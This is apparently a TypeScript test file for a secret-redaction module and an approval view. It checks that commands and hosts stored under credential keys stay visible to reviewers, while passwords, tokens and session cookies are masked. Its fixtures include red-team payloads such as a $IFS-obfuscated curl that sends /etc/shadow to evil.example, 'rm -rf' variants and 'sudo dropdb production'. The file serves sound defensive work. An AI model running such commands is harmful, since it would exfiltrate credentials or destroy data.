// Red team j1 (2026-11-30): below a credential key, fields that say what they hold took the
// key's password context when their word was missing from a fixed list: the approval view
// showed `[SECRET_1_…]` for a command under `exec`, `commandLine`, `ExecStart` or an
// `on_rotate` hook, a host under `hosts` (`host` was listed, its plural not), an instance id
// and an ARN. Fixed as a class: word forms (plurals, camelCase, snake, kebab and Pascal parts,
// hooks), a wider vocabulary of what a field holds that is no credential, and values that say
// what they are (an ARN, a URL, a command line, a host name, a resource id, a region, a
// timestamp) taking no key from above whatever their own key. And a WordPress login cookie came
// back raw: session names of common frameworks are read whole, and a value of `|`-, `:`-, `.`-
// or `%7C`-joined parts is random when one part is.
// Each shape is checked on every path (sync, async inline, async in workers) and in the
// approval view.

import { assert, assertEquals } from "../assert.ts";
import {
  closeSharedPool,
  DetectionPool,
  redactKeyedText,
  redactValue,
  redactValueAsync,
  Vault,
} from "../../pii/mod.ts";
import { isPlainValue } from "../../pii/plain_values.ts";
import { takesContext } from "../../pii/keyed.ts";
import { renderArguments } from "../../gateway/approval/argument_text.ts";
import { bestCpuMs } from "./linearity.ts";

const PW = "S3cr3t!Pass";
const TOK = "Hq3xT9vLmP2rWz8KdN4bYc7FgJ1sA6eU";
/** A token found after a credential key, not alone. */
const KEYED = "Xk9mQ2pL7vR4nW8sT3yU";
const SECRET = "[REDACTED_SECRET]";
const mask = { mode: "mask" as const };

/**
 * `value` masked by `redactValue`, both async paths (inline, workers) and the approval view,
 * all checked to agree; returns the masked value.
 */
async function everyPath(value: Record<string, unknown>): Promise<unknown> {
  const sync = redactValue(value, { mode: "mask", vault: new Vault() });
  const inline = await redactValueAsync(value, { mode: "mask", vault: new Vault() });
  const pool = new DetectionPool({ size: 1 });
  try {
    const workers = await redactValueAsync(value, {
      mode: "mask",
      vault: new Vault(),
      pool,
      thresholdUnits: 0,
    });
    assertEquals(inline.value, sync.value);
    assertEquals(workers.value, sync.value);
    assertEquals(inline.counts, sync.counts);
    assertEquals(workers.counts, sync.counts);
  } finally {
    pool.close();
  }
  const shown = renderArguments(value, (text, key) => redactKeyedText(text, key, mask).text);
  assert(!shown.shortened, shown.text);
  assertEquals(JSON.parse(shown.text), sync.value, "the approval view agrees");
  return sync.value;
}

/** The approval view as the gateway renders it (tokenize, the execution's vault). */
function view(args: Record<string, unknown>): string {
  const vault = new Vault();
  return renderArguments(
    args,
    (t, k) => redactKeyedText(t, k, { mode: "tokenize", vault }).text,
  ).text;
}

Deno.test("own meaning: the red team's commands, hosts and ids under credential keys are shown", () => {
  const hidden: string[] = [];
  for (
    const [args, visible] of [
      [{ credentials: { prod: { exec: "rm$IFS-rf$IFS/srv" } } }, "rm$IFS-rf$IFS/srv"],
      [{ secrets: { on_rotate: "curl$IFS-d@/etc/shadow$IFS//evil.example" } }, "evil.example"],
      [{ passwords: { prod: { instance: "i-0abc123def4567890" } } }, "i-0abc123def4567890"],
      [
        { passwords: { prod: { arn: "arn:aws:rds:us-east-1:123456789012:db:prod-master" } } },
        "prod-master",
      ],
      [{ credentials: { prod: { commandLine: "rm$IFS-rf$IFS/srv" } } }, "rm$IFS-rf$IFS/srv"],
      [{ credentials: { prod: { ExecStart: "rm$IFS-rf$IFS/srv" } } }, "rm$IFS-rf$IFS/srv"],
      [{ credentials: { prod: { hosts: "db-Prod-7xQ2.evil-example.net" } } }, "evil-example.net"],
    ] as const
  ) {
    const shown = view(args as Record<string, unknown>);
    if (!shown.includes(visible)) hidden.push(shown);
  }
  assertEquals(hidden, []);
});

Deno.test("own meaning: a field's word keeps its meaning in every form a key writes it", async () => {
  // Each key says what it holds: a plural, a camelCase, snake, kebab or Pascal compound, a
  // hook, a wider vocabulary; each value fits what it says, and is shown. A value that looks
  // like a secret (`Xk9m…`, a secret under the key above) is one whatever the key says (red
  // team l1): a name alone never takes a secret out of a credential's context.
  const fields = {
    hosts: "db1.internal",
    hostNames: ["db1.internal", "db2.internal"],
    "ip-addresses": "db-7.internal:5432",
    instanceIds: ["i-0abc123def4567890"],
    instance: "prod-master",
    arns: "arn:aws:iam::123456789012:role/deploy",
    RoleArn: "arn:aws:iam::123456789012:role/rotate",
    regions: "eu-west-1",
    endpoints: "https://db.example.com/admin",
    callback_urls: "https://hooks.example.com/rotated",
    exec: "systemctl restart nginx",
    commandLine: "rm$IFS-rf$IFS/srv",
    command_line: "kubectl rollout restart deploy/api",
    ExecStart: "/usr/bin/rotate --all",
    ExecStartPre: "/usr/bin/check",
    scriptPath: "/opt/rotate.sh",
    entrypoint: ["/docker-entrypoint.sh", "postgres"],
    on_rotate: "curl -X POST https://hooks.example.com/rotated",
    onRotate: "notify-ops",
    "pre-start": "systemctl stop app",
    after_deploy: "make smoke-test",
    hooks: "notify-ops",
    descriptions: "Primary database, rotated weekly",
    aliases: "primary-db",
    policies: "rotate-90d",
    lastRotated: "2024-01-15T10:00:00Z",
    schedule: "0 3 * * *",
    mountDir: "/var/run/secrets",
    id: "0b1f6471-1bf0-4dda-aec3-cb9272f09590",
  };
  const value = { passwords: { prod: { ...fields, password: KEYED, primary: KEYED } } };
  assertEquals(await everyPath(value), {
    passwords: { prod: { ...fields, password: SECRET, primary: SECRET } },
  });
  const secrets = Object.fromEntries(Object.keys(fields).map((k) => [k, KEYED]));
  const hidden = Object.fromEntries(Object.keys(fields).map((k) => [k, SECRET]));
  assertEquals(await everyPath({ passwords: { prod: secrets } }), {
    passwords: { prod: hidden },
  });
  // Words that name what a credential is for, or a stage, are no such field: the value under
  // them is the credential (`before_rotation` holds the old password; `on_prem`, `pre_prod`
  // are places, no hooks).
  const still = {
    credentials: { prod: TOK },
    passwords: {
      app: PW,
      cluster: PW,
      pre_prod: PW,
      on_prem: PW,
      before_rotation: PW,
      after_rotation: PW,
      staging: PW,
    },
  };
  assertEquals(await everyPath(still), {
    credentials: { prod: SECRET },
    passwords: {
      app: SECRET,
      cluster: SECRET,
      pre_prod: SECRET,
      on_prem: SECRET,
      before_rotation: SECRET,
      after_rotation: SECRET,
      staging: SECRET,
    },
  });
  for (const key of ["hosts", "commandLine", "ExecStart", "on_rotate", "instanceIds"]) {
    assert(!takesContext(key), key);
  }
  for (const key of ["prod", "pre_prod", "on_prem", "before_rotation", "app"]) {
    assert(takesContext(key), key);
  }
});

Deno.test("own meaning: an object under a field that keeps its meaning still takes the key above", async () => {
  // `hosts` says what a value under it is; an object under it holds passwords by host.
  const value = {
    passwords: { hosts: { db1: PW }, user: { alice: PW }, accounts: { root: PW } },
    api_keys: { providers: { stripe: TOK } },
    // ... and its own fields that say what they are keep it
    credentials: { prod: { hosts: { primary: "db1.internal", note: "replica in eu-west-1" } } },
  };
  assertEquals(await everyPath(value), {
    passwords: { hosts: { db1: SECRET }, user: { alice: SECRET }, accounts: { root: SECRET } },
    api_keys: { providers: { stripe: SECRET } },
    credentials: { prod: { hosts: { primary: "db1.internal", note: "replica in eu-west-1" } } },
  });
});

Deno.test("own meaning: a value that says what it is takes no key from above", async () => {
  const plain = {
    credentials: {
      prod: "arn:aws:secretsmanager:us-east-1:123456789012:secret:prod/db-AbCdEf",
      dr: "db-Prod-7xQ2.evil-example.net",
      replica: "db-7.internal:5432",
      worker: "i-0abc123def4567890",
      sg: "sg-0123abcd",
      azure: "/subscriptions/0b1f6471-1bf0-4dda-aec3-cb9272f09590/resourceGroups/prod",
      where: "eu-west-1",
      zone2: "europe-west1-b",
      at2: "2024-01-15T10:00:00Z",
      seen: "Mon, 30 Nov 2026 12:00:00 GMT",
      site: "https://db.example.com/admin",
    },
    secrets: {
      rotate: "curl$IFS-d@/etc/shadow$IFS//evil.example",
      restart: "systemctl restart nginx",
      cleanup: "/usr/bin/find /var/tmp -mtime +7 -delete",
      drop: "sudo dropdb production",
    },
    // a generic field takes its object's key, unless it says what it is
    db_password: { value: "db.example.internal" },
    // an array of them too
    api_keys: { replicas: ["db-1.example.net", "i-0abc123def4567890", "us-east-1"] },
  };
  assertEquals(await everyPath(plain), plain);
  // Judged alone, not let through: what the value holds is found on its own.
  const inside = {
    secrets: {
      prod: `https://x.example/cb?token=${TOK}`,
      on_rotate: `curl -H 'Authorization: Bearer ${TOK}' https://x.example`,
    },
  };
  assertEquals(await everyPath(inside), {
    secrets: {
      prod: `https://x.example/cb?token=${SECRET}`,
      on_rotate: `curl -H 'Authorization: Bearer ${SECRET}' https://x.example`,
    },
  });
  // Passwords with a dot, a word of a program or a URL's user information are no such value.
  const still = {
    passwords: {
      prod: "Summer.2024",
      stg: "S3cr3t.me",
      dev: PW,
      qa: "https://admin:Tr0ub4dor&3@db.example.com",
    },
    db_password: { value: PW },
    // an array with a password among them is judged under the key above, every item
    api_keys: { replicas: ["db-1.example.net", TOK] },
  };
  const out = await everyPath(still) as typeof still;
  assertEquals(out.api_keys.replicas[1], SECRET);
  assertEquals(out.passwords.prod, SECRET);
  assertEquals(out.passwords.stg, SECRET);
  assertEquals(out.passwords.dev, SECRET);
  assert(!out.passwords.qa.includes("Tr0ub4dor"), out.passwords.qa);
  assertEquals(out.db_password.value, SECRET);
});

Deno.test("own meaning: the shapes of plain values, and what is none", () => {
  for (
    const v of [
      "arn:aws:iam::123456789012:role/deploy",
      "arn:aws:s3:::my-bucket/key.txt",
      "https://example.com",
      "postgres://db.example.com:5432/app",
      "i-0abc123def4567890",
      "vol-0123abcd",
      "us-east-1",
      "us-gov-west-1",
      "us-central1",
      "2024-01-15",
      "2024-01-15 10:00:00+01:00",
      "example.com",
      "api.example.co.uk",
      "db-7.svc",
      "rm -rf /",
      "bash -c 'id'",
      "/bin/sh -i",
      "python3 -m http.server",
      "kubectl delete ns prod",
      "cat /etc/shadow",
      "echo x | sh",
    ]
  ) assert(isPlainValue(v), v);
  for (
    const v of [
      "Tr0ub4dor&3",
      TOK,
      "Summer.2024",
      "Secret.me",
      "example",
      "https://user:pw@example.com",
      "cat horse battery staple",
      "node river apple",
      "i-0abc",
      "2024-13",
      "arn:aws",
      "a".repeat(3000) + ".example.com",
      "rm",
    ]
  ) assert(!isPlainValue(v), v);
});

Deno.test("own meaning: session cookies of common frameworks, and structured values with a random part", async () => {
  // The red team's cookie, from redactValue.
  const wordpress = {
    name: "wordpress_logged_in_5c0f1e7e3d0b2ce86a3e85c3b8d41f7d",
    value:
      "admin|1733011200|kLq8N2xYp4Rz7wVb3mTs9cHdQeA1bC2dE3fG4hI5jK6|3f6e2a1b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f",
    domain: "example.com",
    path: "/",
    httpOnly: true,
  };
  const raw = JSON.stringify(redactValue({ cookies: [wordpress] }, mask).value);
  assert(!raw.includes("kLq8N2xYp4Rz7wVb3mTs9cHd"), raw);
  // A session name is read whole, whatever follows the framework's word: a value a token's
  // context finds (`,` keeps it from looking random) is judged as a token's under each.
  const named = "kLq8N2xY,p4Rz7wVb";
  const names = [
    "wordpress_logged_in_5c0f1e7e3d0b2ce86a3e85c3b8d41f7d",
    "wordpress_sec_5c0f1e7e3d0b2ce86a3e85c3b8d41f7d",
    "PHPSESSID",
    "JSESSIONID",
    "connect.sid",
    "_session_id",
    "remember_web_59ba36addc2b2f9401580f014c7f58ea4e30989d",
    "ASP.NET_SessionId",
    ".AspNetCore.Cookies",
    ".AspNetCore.Antiforgery.9fXoN5jHCXs",
    ".ASPXAUTH",
    "__Host-GAPS",
    "__Secure-3PAPISID",
    "CFID",
  ];
  // A value of parts, one of them random, under a name that says nothing.
  const parts = [
    wordpress.value,
    wordpress.value.replaceAll("|", "%7C"),
    "s:kLq8N2xYp4Rz7wVb3mTs9cHd.E3fG4hI5jK6aBcDeFgHiJkLmNoPq",
    "v2:kLq8N2xYp4Rz7wVb3mTs9cHdQe",
  ];
  // Ordinary cookies, some with parts, stay readable.
  const ordinary = [
    { name: "theme", value: "solarized-dark-2024" },
    { name: "cart", value: "sku-12345|sku-67890" },
    { name: "consent", value: "necessary:true|analytics:false" },
    { name: "lang", value: "en-US" },
    { name: "_ga", value: "GA1.2.1234567890.1700000000" },
    { name: "__utma", value: "173272373.1384567890.1700000000.1700000000.1700000000.1" },
    { name: "wp-settings-1", value: "libraryContent=browse&editor=tinymce" },
    { name: "tz", value: "Europe/Amsterdam|2024a" },
  ];
  const value = {
    cookies: [
      ...names.map((name) => ({ name, value: named, path: "/" })),
      ...parts.map((v) => ({ name: "prefs", value: v, domain: "example.com" })),
      ...ordinary.map((c) => ({ ...c, domain: "example.com" })),
    ],
  };
  assertEquals(await everyPath(value), {
    cookies: [
      ...names.map((name) => ({ name, value: SECRET, path: "/" })),
      ...parts.map(() => ({ name: "prefs", value: SECRET, domain: "example.com" })),
      ...ordinary.map((c) => ({ ...c, domain: "example.com" })),
    ],
  });
});

Deno.test("own meaning: linear in the values and names read (CPU-time ratios, no wall clock)", async () => {
  // 4× the input must cost at most 8× (a quadratic read would cost 16×): many plain-looking
  // values under a context, cookies with long names and values of many parts, and one long
  // value of each.
  const shapes: Record<string, (n: number) => unknown> = {
    plain: (n) => ({
      credentials: Object.fromEntries(
        Array.from({ length: n / 100 }, (_, i) => [
          `prod${i}`,
          (i % 2 ? "rm$IFS-rf$IFS/" : "db-") + "a1.".repeat(i % 100) + "x",
        ]),
      ),
    }),
    arrays: (n) => ({
      credentials: Object.fromEntries(
        Array.from({ length: n / 1000 }, (_, i) => [
          `prod${i}`,
          Array.from({ length: 64 }, (_, j) => (j === 63 && i % 2 ? KEYED : `db-${j}.example.net`)),
        ]),
      ),
    }),
    cookies: (n) => ({
      cookies: Array.from({ length: n / 100 }, (_, i) => ({
        name: "wp_" + "a".repeat(i % 100),
        value: "a|".repeat(i % 100) + "x",
        path: "/",
      })),
    }),
    long: (n) => ({
      credentials: { prod: "rm$IFS-rf$IFS/" + "a1.".repeat(n / 3), host: "a1.".repeat(n / 3) },
      cookies: [{ name: "wp_" + "a".repeat(n), value: "a|".repeat(n / 2), path: "/" }],
    }),
  };
  for (const [name, make] of Object.entries(shapes)) {
    const small = make(40_000);
    const large = make(160_000);
    const redact = (v: unknown) => redactValue(v, { mode: "mask" });
    redact(small);
    const ratio = bestCpuMs(() => redact(large), 5) / bestCpuMs(() => redact(small), 5);
    assert(ratio <= 8, `${name}: 4× the input took ${ratio.toFixed(1)}× the time`);
  }
  await closeSharedPool();
});
